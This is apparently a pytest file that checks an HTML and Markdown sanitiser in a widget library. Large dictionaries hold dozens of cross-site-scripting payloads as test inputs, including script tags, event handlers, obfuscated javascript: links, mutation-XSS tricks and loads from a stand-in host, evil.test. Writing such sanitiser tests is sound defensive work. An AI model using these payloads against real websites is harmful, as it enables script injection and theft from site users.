"""Html and Markdown: text for the reader is kept; whatever could run, load or restyle is removed."""

from __future__ import annotations

import random
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

import al_widget as al
from al_widget.data.markup import sanitise

# fmt: off
HARMLESS_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "col", "colgroup", "dd", "del", "details", "div",
    "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins",
    "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "section", "small", "span", "strong", "sub",
    "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}
HARMLESS_ATTRIBUTES = {
    "align", "alt", "colspan", "dir", "height", "href", "lang", "open", "referrerpolicy", "rel", "reversed",
    "rowspan", "scope", "span", "src", "start", "style", "target", "title", "value", "width",
}
# fmt: on
PICTURES = ("data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,", "data:image/webp;base64,")
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


class Reader(HTMLParser):
    """A parser that records what a page would find in the markup."""

    def __init__(self, markup):
        super().__init__(convert_charrefs=True)
        self.elements, self.text, self.other = [], "", []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert len(dict(attrs)) == len(attrs)
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def check_harmless(markup):
    """Check each element, attribute and address of sanitised markup; return the parsed result."""
    read = Reader(markup)
    assert read.other == []
    for tag, attributes in read.elements:
        assert tag in HARMLESS_TAGS
        assert set(attributes) <= HARMLESS_ATTRIBUTES
        if "href" in attributes:
            assert tag == "a"
            assert urlsplit(attributes["href"]).scheme in {"http", "https", "mailto"}
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if "src" in attributes:
            assert tag == "img"
            address = attributes["src"]
            assert urlsplit(address).scheme in {"http", "https"} or address.startswith(PICTURES)
            assert attributes["referrerpolicy"] == "no-referrer"
        if "style" in attributes:
            assert attributes["style"] in {"text-align:left", "text-align:center", "text-align:right"}
    again = Reader(sanitise(markup))  # parsed as a browser parses it, the markup must not change again
    assert (again.elements, again.text) == (read.elements, read.text)
    return read


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in odd case": "<ScRiPt SRC=//evil.test/x.js></sCrIpT>",
    "script never closed": "text <script>alert(1)",
    "script split by a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after a NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "slash for a space": "<script/x>alert(1)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler in odd case": "<b OnMouseOver='alert(1)' oNcLiCk=alert(2)>x</b>",
    "event handler after a slash": "<img/src=x/onerror=alert(1)>",
    "event handler after a form feed": "<details open\fontoggle=alert(1)>x</details>",
    "event handler in backquotes": "<img src=`x`onerror=alert(1)>",
    "event handler of a made-up tag": "<x onfocus=alert(1) tabindex=1 autofocus>x</x>",
    "event handler with no value": "<p onclick>x</p>",
    "body with a handler": "<body onload=alert(1)>x",
    "javascript": "<a href=javascript:alert(1)>x</a>",
    "javascript in odd case": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "javascript in entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "javascript with entities and no semicolons": "<a href=&#0000106&#0000097vascript:alert(1)>x</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript with an entity tab": "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "javascript after controls": "<a href='\x01\x0f &#1;javascript:alert(1)'>x</a>",
    "javascript after a wide space": "<a href='\u3000javascript:alert(1)'>x</a>",
    "javascript with an address": "<a href='javascript://https://x.test/%0aalert(1)'>x</a>",
    "vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "view-source and blob": "<a href=view-source:x>x</a><a href=blob:https://x.test/1>x</a><a href=file:///etc/x>x</a>",
    "data in a link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data in base64": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "picture in a link": f"<a href='{PIXEL}'>x</a>",
    "svg as a picture": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "svg as a picture in base64": "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "svg called png": "<img src='data:image/png,<svg onload=alert(1)>'>",
    "html called a picture": "<img src='data:text/html;image/png;base64,PHNjcmlwdD4='>",
    "picture by javascript": "<img src=javascript:alert(1)>",
    "srcset": f"<img src={PIXEL} srcset='//evil.test/x 1x' sizes=1px><picture><source srcset=//evil.test/x></picture>",
    "old sources": "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1) longdesc=javascript:alert(1)>",
    "background": "<table background=javascript:alert(1)><td background=//evil.test/x>x</td></table>",
    "ping and download": "<a href=https://x.test/ ping=//evil.test/ download=x.exe target=_top rel=opener>x</a>",
    "address without a scheme": "<a href=//evil.test/>x</a><img src=//evil.test/x.png>",
    "address on this server": "<a href=/logout>x</a><img src=/logout><img src='https:/logout'><img src='https:logout'>",
    "address in the notebook": "<a href='#tab'>x</a><a href='?reset'>x</a>",
    "svg": "<svg onload=alert(1)><circle r=9 /></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with an animation": "<svg><a xlink:href=x><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg by use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg with html inside": "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math with a link": "<math href=javascript:alert(1)>x</math>",
    "style": "<style>@import '//evil.test/x.css'; [data-al] { display: none }</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(//evil.test/x)'>x</p>",
    "style of a cell": "<table><td style='text-align:left;background:url(//evil.test/x)'>x</td></table>",
    "style with an expression": "<table><td style='text-align:expression(alert(1))'>x</td></table>",
    "style by entities": "<table><td style='text-align&colon;left&semi;position:fixed'>x</td></table>",
    "stylesheet": "<link rel=stylesheet href=//evil.test/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href=//evil.test/><a href=x>x</a>",
    "frame": "<iframe src=javascript:alert(1)></iframe><frameset><frame src=//evil.test/></frameset>",
    "frame with a document": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "object and embed": "<object data=//evil.test/x><param name=x value=y></object><embed src=//evil.test/x>",
    "applet": "<applet code=x archive=//evil.test/x.jar>x</applet>",
    "form": "<form action=//evil.test/><input name=x autofocus onfocus=alert(1)><button formaction=//evil.test/>x</form>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea><select><option>x</select>",
    "sound and film": "<audio src=//evil.test/x onerror=alert(1)><video poster=//evil.test/x><source onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "dialog and popover": "<dialog open>x</dialog><p popover id=x>x</p><a popovertarget=x>x</a>",
    "names of the page": "<a id=document name=cookie href=https://x.test/>x</a><img name=getElementById><p class=card>x",
    "attributes of the page": "<p data-al=desk slot=x part=y is=z contenteditable tabindex=1 accesskey=1>x</p>",
    "comment": "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "comment closed oddly": "<!--> <img src=x onerror=alert(1)> --!> x <!-->",
    "comment for a browser": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "declarations": "<!DOCTYPE x><![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href=x?><?php x ?>",
    "template": "<template><img src=x onerror=alert(1)><template><script>alert(1)</script></template></template>",
    "template in a table": "<table><template><tr><td><img src=x onerror=alert(1)></template></table>",
    "shadow root": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "noembed, xmp and plaintext": "<noembed><img title='</noembed><img onerror=x>'></noembed><xmp><b></xmp><plaintext><i>",
    "title": "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "never closed": "<a href='https://x.test/ onclick=alert(1) <b <img src=x onerror=alert(1)",
    "attribute never closed": '<p title="x><script>alert(1)</script>',
    "mutation by math and style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by svg and style": "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "mutation by form and table": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by noscript": "<math><annotation-xml encoding='text/html'><style><img title='</style><img onerror=x>'>",
    "mutation by select": "<select><svg><style><a title='</style><img src=x onerror=alert(1)>'></select>",
    "mutation by title": "<b title='&lt;/b>&lt;img src=x onerror=alert(1)>'>x</b>",
    "half a character": "<a href='java\ud83dscript:alert(1)'>\ud83d</a><scr\ud83dipt>x",
    "old encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \xbcscript\xbealert(1)\xbc/script\xbe",
    "right to left": "\u202e<script>alert(1)</script>\u202c<b dir=rtl onclick=alert(1)>x</b>",
    "deep": "<div>" * 3000 + "<script>alert(1)</script>",
}

HOSTILE_MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link in odd case": "[x](JaVaScRiPt:alert(1)) [x](<java&#115;cript:alert(1)>) [x](javascript&colon;alert(1))",
    "link by reference": "[x]\n\n[x]: javascript:alert(1) 'title'",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/x) [x](/logout)",
    "autolink": "<javascript:alert(1)> <vbscript:x> <data:text/html,x> <https://x.test/?a=%22onclick=alert(1)>",
    "picture": f"![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](/logout) ![x]({PIXEL})",
    "title": "[x](https://x.test/ '\"onmouseover=alert(1)//')",
    "alternative text": '![x" onerror="alert(1)](https://x.test/x.png)',
    "language of a fence": '```html"onclick=alert(1)\n<script>alert(1)</script>\n```',
    "code": "`<img src=x onerror=alert(1)>` \n\n    <script>alert(1)</script>",
    "table": "|a|b|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "html in a line": "*x* <b onclick=alert(1)>x</b> <svg/onload=alert(1)>",
    "html in a block": "<div>\n\n**x** <script>alert(1)\n\n</script>\n\n</div>",
    "html across blocks": "<a title='\n\n'onmouseover=alert(1)'>x</a>",
    "NUL and half a character": "a\0b \ud83d [x](java\0script:alert(1))",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_is_harmless(name):
    check_harmless(al.Html(HOSTILE[name]).safe_html())


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_in_markdown_is_harmless(name):
    check_harmless(al.Markdown(HOSTILE[name]).safe_html())
    check_harmless(al.Markdown(f"# x\n\n- *x* {HOSTILE[name]}\n").safe_html())


@pytest.mark.parametrize("name", HOSTILE_MARKDOWN)
def test_hostile_markdown_is_harmless(name):
    check_harmless(al.Markdown(HOSTILE_MARKDOWN[name]).safe_html())


def test_hostile_pieces_in_any_order_are_harmless():
    rng = random.Random(0)
    pieces = [*HOSTILE.values(), *"<>\"'/`=", "</p>", "</table>", "</style>", "</svg>", "<table>", "<p title='", "<!--"]
    pieces.remove(HOSTILE["deep"])
    for _ in range(500):
        check_harmless(al.Html("".join(rng.choices(pieces, k=6))).safe_html())


@pytest.mark.parametrize("tag", ["script", "style", "template", "svg", "math", "title", "iframe", "noscript", "object"])
def test_the_content_of_scripts_and_the_like_is_not_shown_as_text(tag):
    assert al.Html(f"before <{tag}>within</{tag}> after").safe_html() == "before  after"


def test_a_tag_that_goes_leaves_its_text():
    assert al.Html("<form>Name: <blink>Ada</blink></form>").safe_html() == "Name: Ada"


@pytest.mark.parametrize(
    "markup",
    [
        "<h3>Clause 4</h3><p>No <b>lien</b>, <i>fee</i> or<br>tax<sup>2</sup> &amp; such</p><hr>",
        '<ol start="3" reversed=""><li value="4">four</li></ol><ul><li>x<ul><li>y</li></ul></li></ul>',
        '<table><caption>t</caption><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>',
        '<pre><code>if a &lt; b:\n    c()</code></pre><blockquote dir="rtl" lang="ar">مرحبا</blockquote>',
        '<details open=""><summary>more</summary><span title="a &quot;b&quot;">🏴‍☠️ e\u0301</span></details>',
        f'<img src="{PIXEL}" alt="a drawing" width="28" height="28" referrerpolicy="no-referrer">',
    ],
)
def test_what_is_written_to_be_read_stays_as_it_is(markup):
    assert al.Html(markup).safe_html() == markup
    check_harmless(markup)


@pytest.mark.parametrize(
    "address", ["https://x.test/a?b=1&c=2#d", "HTTP://x.test", "mailto:ada@x.test", " https://x.test\n"]
)
def test_a_link_opens_beside_the_notebook_and_tells_nobody(address):
    ((tag, attributes),) = check_harmless(al.Html(f'<a href="{address}">x</a>').safe_html()).elements
    assert (tag, attributes["href"]) == ("a", address.strip())


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp", "PNG"])
def test_a_picture_may_come_with_the_card(kind):
    address = f"data:image/{kind};base64,iVBORw0KGgo="
    ((_, attributes),) = Reader(al.Html(f'<img src="{address}">').safe_html()).elements
    assert attributes["src"] == address


def test_markdown_is_commonmark_with_tables():
    text = "# Fees\n\nNo *fee* on `x < y`, see [4](https://x.test).\n\n|a|b|c|\n|:-|:-:|-:|\n|1|2|3|\n"
    assert al.Markdown(text).safe_html() == (
        "<h1>Fees</h1>\n"
        "<p>No <em>fee</em> on <code>x &lt; y</code>, see "
        '<a href="https://x.test" target="_blank" rel="noopener noreferrer nofollow">4</a>.</p>\n'
        '<table>\n<thead>\n<tr>\n<th style="text-align:left">a</th>\n<th style="text-align:center">b</th>\n'
        '<th style="text-align:right">c</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td style="text-align:left">1</td>\n'
        '<td style="text-align:center">2</td>\n<td style="text-align:right">3</td>\n</tr>\n</tbody>\n</table>\n'
    )


@pytest.mark.parametrize("make", [al.Html, al.Markdown])
def test_a_nul_or_half_a_character_becomes_the_sign_for_it(make):
    shown = make("a\0b \ud83d \ud83d\ude00").safe_html()
    assert Reader(shown).text.strip() == "a\ufffdb \ufffd 😀"
    shown.encode()


@pytest.mark.parametrize("make", [al.Html, al.Markdown])
@pytest.mark.parametrize("piece", ["<", "<div>", "</b>", "[", "*a", "![](", "<!--", "&", "> ", "|"])
def test_long_markup_takes_no_longer_than_a_moment(make, piece):
    started = time.perf_counter()
    make(piece * (10_000 // len(piece))).safe_html()
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("markup", [al.Html("<div>" * 100_000), al.Markdown("[" * 100_000)], ids=["Html", "Markdown"])
def test_markup_that_would_take_minutes_is_refused(markup):
    with pytest.raises(al.DataError, match=r"at most 20,000 [<\[] on a card, got 100,000\. Show a part of the example"):
        markup.safe_html()


@pytest.mark.parametrize("make", [al.Html, al.Markdown])
@pytest.mark.parametrize("content", [None, b"<b>x</b>", 7])
def test_markup_of_anything_but_text_is_refused(make, content):
    with pytest.raises(
        al.DataError, match=rf"Expected al\.{make.__name__}\(…\) of a str, got {type(content).__name__}"
    ):
        make(content)


def test_markup_is_a_value():
    assert al.Html("<b>") == al.Html("<b>") != al.Html("<i>")
    with pytest.raises(AttributeError):
        al.Html("<b>").markup = "<i>"
